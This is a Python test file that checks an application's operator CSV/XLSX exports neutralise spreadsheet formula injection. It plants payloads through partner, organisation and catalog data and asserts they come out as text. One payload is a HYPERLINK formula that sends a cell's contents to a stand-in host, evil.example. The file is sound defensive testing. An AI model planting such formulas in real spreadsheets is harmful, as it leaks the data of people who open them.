"""Finding 3 of issue 18: spreadsheet formulas in exports (OWASP "CSV injection").

A partner chooses its event ids and its name, organisations and merchants choose theirs; all of them
reach an operator's CSV/XLSX export. Through the real paths (the operator pages' export links over
HTTP, `tanhui market orders --export`), every planted formula must come out as text: in CSV quoted
with a leading `'`, in XLSX a string cell (never a formula) holding the text unchanged; numbers
stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
from openpyxl import load_workbook

from tanhui.services import ingest, market, organisations, partners
from tanhui.store import Store
from tests.live import cli
from tests.market.helpers import open_shop
from tests.web.helpers import csrf_of, operator

PLANTED = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1", "-1+2", "@SUM(1)", "=1+1", "\t=2+2"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _plant(store: Store) -> None:
    shop = open_shop(store, "city", people=1, points_each=10_000)
    partner = partners.create_partner(store, "city", PLANTED[0], ["bus_ride"]).partner
    now = datetime.now(UTC)
    # No consent for these user_refs: every event is rejected and lands in the operator's review list.
    ingest.ingest_events(
        store,
        partner,
        [
            {
                "event_id": value,
                "user_ref": f"nobody-{n}",
                "scenario": "bus_ride",
                "occurred_at": (now - timedelta(hours=1)).isoformat(),
                "data": {"distance_km": "5", "trip_id": f"t{n}"},
            }
            for n, value in enumerate(PLANTED)
        ],
    )
    for name in PLANTED[1:4]:
        organisations.create(store, "city", name, "company")
    item = market.add_item(
        store,
        "city",
        {"kind": "coupon", "title_zh": "@SUM(1)", "title_en": "-1+2", "points_price": 10, "stock": 5, "merchant": "+1"},
    )
    market.place_order(store, shop.people[0], item.public_id, 1, "order-1")


def _check_csv(text: str, expected: set[str]) -> None:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], "a cell would run as a formula"
    unquoted = {c[1:] for c in cells if c.startswith("'")}
    assert expected <= unquoted, expected - unquoted


def _check_xlsx(content: bytes, expected: set[str]) -> None:
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    texts = {c.value for c in cells if c.data_type == "s"}
    assert expected <= texts, expected - texts
    assert any(c.data_type == "n" and isinstance(c.value, int) for c in cells)  # numbers stay numbers


def test_exports_neutralise_formulas_on_the_operator_pages_and_the_cli(live: Any, tmp_path: Path) -> None:
    store = Store(live.database_url)
    try:
        _plant(store)
        operator(store, "city", "ops-city")
    finally:
        store.dispose()
    with httpx.Client(base_url=live.base_url, timeout=30) as ops:
        csrf = csrf_of(ops.get("/admin/login").text)
        assert (
            ops.post("/admin/login", data={"csrf": csrf, "username": "ops-city", "password": "correct-horse-9"}).status_code
            == 303
        )
        expected = {
            "review": set(PLANTED),  # event ids chosen by the partner
            "partners": {PLANTED[0]},
            "organisations": set(PLANTED[1:4]),
            "catalog": {"@SUM(1)", "+1"},
            "orders": {"@SUM(1)"},
        }
        for table, wanted in expected.items():
            got = ops.get(f"/admin/schemes/city/export/{table}.csv")
            assert got.status_code == 200, (table, got.text[:200])
            _check_csv(got.content.decode("utf-8-sig"), wanted)
            got = ops.get(f"/admin/schemes/city/export/{table}.xlsx")
            assert got.status_code == 200, table
            _check_xlsx(got.content, wanted)
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"orders.{suffix}"
        cli(live.database_url, "market", "orders", "--scheme", "city", "--export", str(out))
        if suffix == "csv":
            _check_csv(out.read_text(encoding="utf-8-sig"), {"@SUM(1)"})
        else:
            _check_xlsx(out.read_bytes(), {"@SUM(1)"})
